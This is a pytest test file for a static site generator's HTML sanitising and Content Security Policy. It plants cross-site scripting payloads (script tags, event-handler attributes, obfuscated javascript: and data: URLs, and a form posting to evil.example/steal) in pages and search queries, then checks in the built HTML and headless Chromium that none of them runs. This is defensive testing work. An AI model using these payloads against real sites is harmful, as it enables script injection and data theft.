"""Safe HTML, end to end: payloads planted in a Q&A, a case, an interpretation, a glossary definition and a search
query, built strictly, then checked in the built HTML and in headless Chromium with the page's own CSP active."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote, urljoin, urlparse

import pytest

from tests.helpers import (DONE_SEARCHING, build_project, copy_shipped_project, corpus_sources, csp_meta,
                           csp_script_hashes, serve_directory, sha256_source, wait_until)

SLUG = "xinfang-gongzuo-tiaoli"

# Every payload that could run on its own sets window.__pwned and opens a dialog; the others would need a click.
PAYLOAD = """

<script>window.__pwned = "script"; alert(1)</script>

<img src=x onerror="window.__pwned = 'img'; alert(2)"> 图片

[点我](javascript:alert(3)) 和 <a href="JaVaScRiPt:alert(4)">x</a>

<iframe src="https://evil.example/"></iframe>

<svg onload="window.__pwned = 'svg'; alert(5)">

<p onclick="alert(6)" style="x">text</p>

<a href="&#106;avascript:alert(7)">实体</a> <a href=" java&#x09;script:alert(8)">空白</a>

<details open ontoggle="window.__pwned = 'details'; alert(9)"><summary>展开</summary>内容</details>

属性列表
{: onclick="alert(10)" }

<IMG SRC=x ONERROR="window.__pwned = 'upper'; alert(11)">

<img src="https://evil.example/pixel.png" alt="外站图片">

![图](javascript:alert(12))

[引用链接][evil]

[evil]: javascript:alert(13)

<a href="data:text/html,<script>alert(14)</script>">数据</a>

<style>@import url("https://evil.example/x.css"); body { display: none }</style>

<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">

<form action="https://evil.example/steal"><input name="q"><button>提交</button></form>

"""
# Definitions refuse < and > (a pufa check error); what is left to try is quotes, Markdown and entities.
GLOSSARY_PAYLOAD = ("\" onmouseover=\"window.__pwned = 'term'; alert(21)\" x=\"' onfocus='alert(22)' "
                    "[点我](javascript:alert(23)) *强调* &amp;lt;b&amp;gt;")
SEARCH_PAYLOADS = ["<script>window.__pwned = 'q'; alert(31)</script>",
                   "上访 <img src=x onerror=\"window.__pwned = 'q-img'; alert(32)\">",
                   "\"><svg onload=alert(33)>"]
FORM = ('<form class="pufa-searchbox" action="../sousuo/" method="get">\n'
        '<input type="search" name="q" aria-label="搜索">\n<button type="submit">搜索</button>\n</form>\n')

QA = "wenda/duojiu-dafu"
CASE = "anli/wangshang-xinfang"
ARTICLE = f"tiaoli/{SLUG}/34"  # its interpretation (docs/jiedu/…/34.md) carries the payload
GLOSSARY = "cidian"
TERM_PAGE = "wenda/fucha-fuhe-zhao-shei"  # uses the term 复查, so its abbreviation tooltip carries the definition
PLANTED = [QA, CASE, ARTICLE]
CLEAN = ["", f"tiaoli/{SLUG}/1", f"tiaoli/{SLUG}", "wenda", "guanyu"]
ON_ATTRIBUTE = re.compile(r"^on", re.I)


def _plant(docs: Path) -> None:
    for relative in ("wenda/duojiu-dafu.md", "anli/wangshang-xinfang.md", f"jiedu/{SLUG}/34.md"):
        path = docs / relative
        path.write_text(path.read_text(encoding="utf-8") + PAYLOAD, encoding="utf-8")
    glossary = docs / "cidian.yml"
    text = glossary.read_text(encoding="utf-8")
    line = next(line for line in text.splitlines() if line.startswith("  definition: 不服信访处理意见的"))
    definition = GLOSSARY_PAYLOAD + line.removeprefix("  definition: ")
    glossary.write_text(text.replace(line, "  definition: " + json.dumps(definition, ensure_ascii=False)),
                        encoding="utf-8")
    (docs / "trusted-form.md").write_text(f"---\ntitle: 受信任页面\n---\n\n# 受信任页面\n\n{FORM}", encoding="utf-8")
    config = docs.parent / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace("trusted_pages: [index.md]",
                                                                 "trusted_pages: [index.md, trusted-form.md]"),
                      encoding="utf-8")
    (docs / "plain-form.md").write_text(f"---\ntitle: 普通页面\n---\n\n# 普通页面\n\n{FORM}", encoding="utf-8")


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    """The shipped site with payloads planted in a Q&A, a case, an interpretation and a glossary definition, plus
    a trusted and an untrusted page with the same form, built once with ``pufa build --strict``."""
    sources = corpus_sources([SLUG])
    project = copy_shipped_project(tmp_path_factory.mktemp("safe-html"))
    _plant(project / "docs")
    return build_project(project, sources)


def read(site: Path, page: str) -> str:
    return (site / page / "index.html" if page else site / "index.html").read_text(encoding="utf-8")


class Scan(HTMLParser):
    """Elements of one page: every start tag (with whether it is inside <article>) and every <script>."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.depth = 0  # >0 while inside <article>
        self.qr = False
        self.tags: list[tuple[str, dict, bool]] = []
        self.scripts: list[dict] = []
        self._script: dict | None = None
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag == "article":
            self.depth += 1
        if tag == "svg" and "pufa-qr-svg" in (dict(attrs).get("class") or ""):
            self.qr = True  # the page's own QR code (inline SVG made by pufa), not content
        if self.qr:
            return
        self.tags.append((tag, dict(attrs), self.depth > 0))
        if tag == "script":
            self._script = {"attrs": dict(attrs), "body": "", "in_article": self.depth > 0}

    def handle_endtag(self, tag):
        if tag == "svg":
            self.qr = False
        if tag == "article" and self.depth:
            self.depth -= 1
        if tag == "script" and self._script is not None:
            self.scripts.append(self._script)
            self._script = None

    def handle_data(self, data):
        if self._script is not None:
            self._script["body"] += data

    def content(self):
        return [(tag, attrs) for tag, attrs, inside in self.tags if inside]


def _inline(script: dict) -> bool:
    return "src" not in script["attrs"] and "json" not in (script["attrs"].get("type") or "")


def _raw_inline_bodies(text: str) -> list[str]:
    """Inline script bodies exactly as written (the hash is over the raw text, not the parsed one)."""
    return [m.group(2) for m in re.finditer(r"<script(?![^>]*\bsrc=)([^>]*)>(.*?)</script>", text, re.S | re.I)
            if "json" not in m.group(1)]


# --- the built HTML ---------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("page", [QA, CASE, ARTICLE, GLOSSARY, TERM_PAGE])
def test_no_foreign_script_in_built_page(site, page):
    """A planted page has no <script> but the site's own (src under assets/ or search/, or inline outside content)."""
    text = read(site, page)
    scan = Scan(text)
    base = f"http://site/{page}/" if page else "http://site/"
    for script in scan.scripts:
        src = script["attrs"].get("src")
        if src:
            path = urlparse(urljoin(base, src)).path
            assert urlparse(urljoin(base, src)).netloc == "site" and path.startswith(("/assets/", "/search/")), src
        else:
            assert not script["in_article"], f"{page}: inline <script> inside the content: {script['body'][:80]!r}"
    assert not [tag for tag, _ in scan.content() if tag == "script"]


def test_every_page_loads_only_site_scripts(site):
    """Every page loads scripts only from assets/, search/ or data/ and has no inline script in its content."""
    # The planted article page (ARTICLE) is skipped here: test_no_foreign_script_in_built_page reports it.
    offenders = []
    for html_file in sorted(site.rglob("*.html")):
        name = html_file.relative_to(site).as_posix()
        base = "http://site/" + name
        for script in Scan(html_file.read_text(encoding="utf-8")).scripts:
            src = script["attrs"].get("src")
            target = urlparse(urljoin(base, src)) if src else None
            if src and (target.netloc != "site" or not target.path.startswith(("/assets/", "/search/", "/data/"))):
                offenders.append((name, src))
            elif not src and script["in_article"] and not name.startswith(ARTICLE + "/"):
                offenders.append((name, script["body"][:60]))
    assert offenders == [], offenders


@pytest.mark.parametrize("page", [QA, CASE, ARTICLE, GLOSSARY, TERM_PAGE])
def test_no_event_handlers_or_javascript_urls_in_content(site, page):
    """Inside <article>: no on* attribute, no javascript:/data: URL, no iframe/svg/object/embed/form/style."""
    scan = Scan(read(site, page))
    handlers = [(tag, name) for tag, attrs in scan.content() for name in attrs if ON_ATTRIBUTE.match(name)]
    assert handlers == [], f"{page}: event handler attributes in content: {handlers}"
    urls = [(tag, name, value) for tag, attrs in scan.content() for name, value in attrs.items()
            if name in ("href", "src", "action", "data", "formaction", "xlink:href")
            and re.match(r"(?i)^\s*(javascript|vbscript|data):", re.sub(r"[\x00-\x20]", "", value or ""))]
    assert urls == [], f"{page}: script URLs in content: {urls}"
    dangerous = [tag for tag, _ in scan.content() if tag in ("iframe", "svg", "object", "embed", "form", "style",
                                                              "script", "math", "base", "meta", "link")]
    assert dangerous == [], f"{page}: elements that must not come from content: {dangerous}"
    foreign = [(tag, attrs.get("src")) for tag, attrs in scan.content()
               if attrs.get("src") and re.match(r"(?i)^(https?:)?//", attrs["src"])]
    assert foreign == [], f"{page}: content loads from another host: {foreign}"
    style = [tag for tag, attrs in scan.content() if "style" in attrs and tag == "p"]
    assert style == [], f"{page}: the planted style attribute survived"


@pytest.mark.parametrize("page", [QA, CASE, ARTICLE])
def test_payload_text_is_shown_escaped(site, page):
    """The planted markup appears as text: &lt;script&gt;, &lt;iframe, &lt;svg, &lt;form in the page's content."""
    text = read(site, page)
    content = text[text.index("<article"):text.index("</article>")]
    for escaped in ('&lt;script&gt;window.__pwned = "script"', "&lt;iframe src=", "&lt;svg onload=", "&lt;form",
                    "&lt;style&gt;", "&lt;object"):
        assert escaped in content, f"{page}: {escaped!r} not found escaped in the content"
    assert "<p>text</p>" in content and "<a>点我</a>" in content


def test_glossary_definition_is_escaped(site):
    """The planted definition shows as text on /cidian/ and stays an attribute value in the 复查 tooltip."""
    text = read(site, GLOSSARY)
    assert "onmouseover=\"window.__pwned = 'term'; alert(21)\"" in text.replace("&#x27;", "'").replace("&quot;", '"')
    assert not re.search(r"(?i)href=\"\s*javascript:", text)
    assert not re.search(r"<[a-z]+[^>]*\sonmouseover=", text)
    page = read(site, TERM_PAGE)
    titles = [attrs.get("title", "") for tag, attrs in Scan(page).content() if tag == "abbr"]
    assert any("alert(21)" in title for title in titles), "the 复查 tooltip should carry the planted definition"
    assert not re.search(r"<abbr[^>]*>[^<]*<script", page)


def test_every_page_has_the_csp_first_in_head(site):
    """Every page (404.html too) has the CSP meta first in <head>, hashing exactly its inline scripts."""
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 100
    missing, mismatched = [], []
    for html_file in pages:
        text = html_file.read_text(encoding="utf-8")
        name = html_file.relative_to(site).as_posix()
        if not re.search(r"<head(\s[^>]*)?><meta http-equiv=\"Content-Security-Policy\"", text):
            missing.append(name)
            continue
        policy = csp_meta(text)
        assert "'unsafe-inline'" not in policy.split("script-src", 1)[1].split(";")[0], name
        assert "object-src 'none'" in policy and "base-uri 'self'" in policy, name
        if csp_script_hashes(policy) != {sha256_source(body) for body in _raw_inline_bodies(text)}:
            mismatched.append(name)
    assert missing == [], f"{len(missing)} of {len(pages)} pages have no CSP meta first in <head>: {missing}"
    assert mismatched == [], f"CSP hashes differ from the inline scripts on: {mismatched}"


@pytest.mark.parametrize("page", [QA, CASE, ARTICLE, GLOSSARY, TERM_PAGE])
def test_csp_allows_only_the_theme_scripts(site, page):
    """The CSP hashes only the theme's inline scripts: a script inside the content is never whitelisted."""
    text = read(site, page)
    theme = {sha256_source(body) for body in _raw_inline_bodies(text[:text.index("<article")]
                                                                 + text[text.index("</article>"):])}
    allowed = csp_script_hashes(csp_meta(text))
    assert allowed == theme, (f"{page}: the CSP whitelists inline scripts from the content: "
                              f"{sorted(allowed - theme)}")


def test_trusted_page_keeps_its_form(site):
    """A page listed in plugins.pufa.trusted_pages keeps raw HTML (the <form>); the same HTML on another page is
    escaped."""
    trusted = read(site, "trusted-form")
    plain = read(site, "plain-form")
    assert '<form class="pufa-searchbox" action="../sousuo/" method="get">' in trusted
    assert "<form" not in plain[plain.index("<article"):plain.index("</article>")]
    assert "&lt;form class=&quot;pufa-searchbox&quot;" in plain
    home = read(site, "")
    assert '<form class="pufa-searchbox"' in home  # the shipped home page is the documented trusted page


# --- in Chromium, with the page's own CSP ----------------------------------------------------------------------------

@pytest.fixture(scope="module")
def served(site):
    with serve_directory(site) as base:
        yield base


class Watched:
    """A normal page (CSP active) recording dialogs, requests, popups and console errors about the CSP."""

    def __init__(self, browser):
        self.context = browser.new_context(viewport={"width": 390, "height": 844})
        self.page = self.context.new_page()
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        self.csp_errors: list[str] = []
        self.popups: list[str] = []
        self.page.on("dialog", self._dialog)
        self.page.on("request", lambda request: self.requests.append(request.url))
        self.page.on("popup", lambda popup: self.popups.append(popup.url))
        self.page.on("console", self._console)

    def _dialog(self, dialog):
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _console(self, message):
        if message.type == "error" and "Content Security Policy" in message.text:
            self.csp_errors.append(message.text)

    def open(self, url: str):
        self.csp_errors.clear()
        self.page.goto(url, wait_until="load")
        self.page.wait_for_timeout(300)  # let onerror/ontoggle handlers and Material's scripts fire

    def pwned(self):
        return self.page.evaluate("() => typeof window.__pwned === 'undefined' ? null : String(window.__pwned)")

    def dom_problems(self):
        """Live DOM: on* attributes, javascript: URLs and frames/svg inside the content."""
        return self.page.evaluate("""() => {
            const problems = [];
            for (const el of document.querySelectorAll('article *')) {
                if (el.closest('.pufa-qr')) continue;  // pufa's own QR code (inline SVG)
                for (const a of el.attributes) {
                    if (/^on/i.test(a.name)) problems.push(el.tagName + ' ' + a.name);
                    if (/^(href|src|action|data)$/i.test(a.name) && /^\\s*(javascript|data):/i.test(a.value.replace(/[\\x00-\\x20]/g, '')))
                        problems.push(el.tagName + ' ' + a.name + '=' + a.value);
                }
                if (/^(IFRAME|OBJECT|EMBED|FORM|SCRIPT|STYLE)$/.test(el.tagName) || el.namespaceURI === 'http://www.w3.org/2000/svg')
                    problems.push('element ' + el.tagName);
            }
            return problems;
        }""")

    def foreign(self, base: str):
        return [url for url in self.requests if not url.startswith(base) and not url.startswith(("data:", "blob:"))]

    def close(self):
        self.context.close()


@pytest.fixture
def tab(browser):
    watched = Watched(browser)
    yield watched
    watched.close()


@pytest.mark.parametrize("page", [QA, CASE, ARTICLE, GLOSSARY, TERM_PAGE])
def test_planted_page_runs_no_script(served, tab, page):
    """A planted page fires no dialog, sets no marker, requests no other host, leaves no handler in the DOM."""
    tab.open(f"{served}/{page}/")
    for name in ("点我", "x", "text", "实体", "空白", "引用链接", "数据", "展开"):
        for element in tab.page.locator("article").get_by_text(name, exact=True).all():
            if element.is_visible():
                element.click(no_wait_after=True, timeout=2_000)
    tab.page.wait_for_timeout(200)
    assert tab.dialogs == [], f"{page}: dialogs fired: {tab.dialogs}"
    assert tab.pwned() is None, f"{page}: window.__pwned was set to {tab.pwned()!r}"
    assert tab.page.url.startswith(served), tab.page.url
    assert tab.foreign(served) == [], tab.foreign(served)
    assert tab.popups == []
    assert tab.dom_problems() == [], f"{page}: {tab.dom_problems()}"


def test_glossary_tooltip_runs_no_script(served, tab):
    """Hovering and focusing the 复查 abbreviation (its tooltip shows the planted definition) runs nothing."""
    tab.open(f"{served}/{TERM_PAGE}/")
    abbr = tab.page.locator("article abbr", has_text="复查").first
    abbr.scroll_into_view_if_needed()
    abbr.hover()
    tab.page.wait_for_timeout(500)
    assert tab.dialogs == [] and tab.pwned() is None
    made = tab.page.evaluate("""() => [...document.querySelectorAll('.md-tooltip2 *, .md-tooltip *')]
        .filter(e => /^(SCRIPT|IMG|IFRAME|A|FORM|SVG)$/i.test(e.tagName)).map(e => e.outerHTML.slice(0, 120))""")
    assert made == [], f"the tooltip turned the glossary definition into markup: {made}; CSP errors: {tab.csp_errors}"


@pytest.mark.parametrize("query", SEARCH_PAYLOADS)
def test_search_query_runs_no_script(served, tab, query):
    """A markup query on /sousuo/ shows as text only: no dialog, no marker, no element made from it."""
    tab.open(f"{served}/sousuo/?q={quote(query)}")
    wait_until(tab.page, DONE_SEARCHING)
    tab.page.wait_for_timeout(300)
    assert tab.dialogs == [] and tab.pwned() is None
    assert tab.page.locator("#pufa-results img, #pufa-results script, #pufa-results svg, img[src='x']").count() == 0
    assert tab.page.locator("#pufa-search-page input[name=q]").input_value() == query
    assert tab.foreign(served) == []


def test_search_snippets_of_planted_content_are_text(served, tab):
    """Results whose text holds the planted markup show it as text: snippets contain only text and <mark>."""
    tab.open(f"{served}/sousuo/?q={quote('alert')}")
    tab.page.wait_for_selector("#pufa-results li.pufa-hit", timeout=15_000)
    snippets = tab.page.locator("#pufa-results .pufa-hit__snippet")
    texts = snippets.all_inner_texts()
    assert any("</script>" in text or "<img src=x" in text or 'alert(21)" x="' in text for text in texts), texts
    for html in snippets.evaluate_all("nodes => nodes.map(n => n.innerHTML)"):
        assert set(re.findall(r"<[^>]*>", html)) <= {"<mark>", "</mark>"}, html
    assert tab.dialogs == [] and tab.pwned() is None


def test_header_search_with_payload(served, tab):
    """Typing a payload into the header search box of a page leads to the search page, where nothing runs (at desk
    width: on a phone the header offers a link to the search page instead of a box)."""
    tab.page.set_viewport_size({"width": 1280, "height": 800})
    tab.open(f"{served}/guanyu/")
    box = tab.page.locator("form.pufa-header-search input[name=q]")
    box.fill(SEARCH_PAYLOADS[1])
    box.press("Enter")
    tab.page.wait_for_url(re.compile(r"/sousuo/\?q="), timeout=15_000)
    wait_until(tab.page, DONE_SEARCHING)
    tab.page.wait_for_timeout(300)
    assert tab.dialogs == [] and tab.pwned() is None
    assert tab.page.locator("img[src='x']").count() == 0


@pytest.mark.parametrize("page", CLEAN + ["sousuo/?q=" + quote("复查"), TERM_PAGE, GLOSSARY])
def test_site_scripts_satisfy_the_csp(served, tab, page):
    """Pages without script payloads log no Content Security Policy error: the site's own scripts all pass."""
    tab.open(f"{served}/{page}" if "?" in page else f"{served}/{page}/" if page else f"{served}/")
    if page.startswith("sousuo"):
        tab.page.wait_for_selector("#pufa-results li.pufa-hit", timeout=15_000)
    assert tab.csp_errors == [], f"/{page}: {tab.csp_errors}"
    assert tab.page.evaluate("() => !!window.document$ && !!window.pufaSearch"), "Material's or pufa's script is off"


@pytest.mark.parametrize("page", [QA, CASE, ARTICLE])
def test_site_still_works_beside_the_payloads(served, tab, page):
    """On a planted page the font-size buttons and the header search still work under the CSP."""
    tab.open(f"{served}/{page}/")
    tab.page.click(".pufa-fontsize button[data-size=large]", timeout=5_000)
    assert tab.page.get_attribute("html", "data-pufa-font") == "large"
    assert tab.page.get_attribute(".pufa-fontsize button[data-size=large]", "aria-pressed") == "true"
    tab.page.click(".pufa-fontsize button[data-size=normal]")
    assert tab.page.get_attribute("html", "data-pufa-font") == "normal"
    tab.page.set_viewport_size({"width": 1280, "height": 800})  # the header box is a link on phones
    box = tab.page.locator("form.pufa-header-search input[name=q]")
    box.fill("第二十二条")
    with tab.page.expect_navigation():
        box.press("Enter")  # an article number opens the article itself
    assert tab.page.url == f"{served}/tiaoli/{SLUG}/22/"
    assert tab.dialogs == [] and tab.pwned() is None


def test_trusted_form_works_in_the_browser(served, tab):
    """The trusted page's form submits to the search page (form-action 'self'); the untrusted page shows text."""
    tab.open(f"{served}/trusted-form/")
    box = tab.page.locator("article form input[name=q]")
    box.fill("复查")
    box.press("Enter")
    tab.page.wait_for_selector("#pufa-results li.pufa-hit", timeout=15_000)
    assert urlparse(tab.page.url).path == "/sousuo/"
    tab.open(f"{served}/plain-form/")
    assert tab.page.locator("article form").count() == 0
    assert "<form" in tab.page.locator("article").inner_text()
    assert tab.csp_errors == []
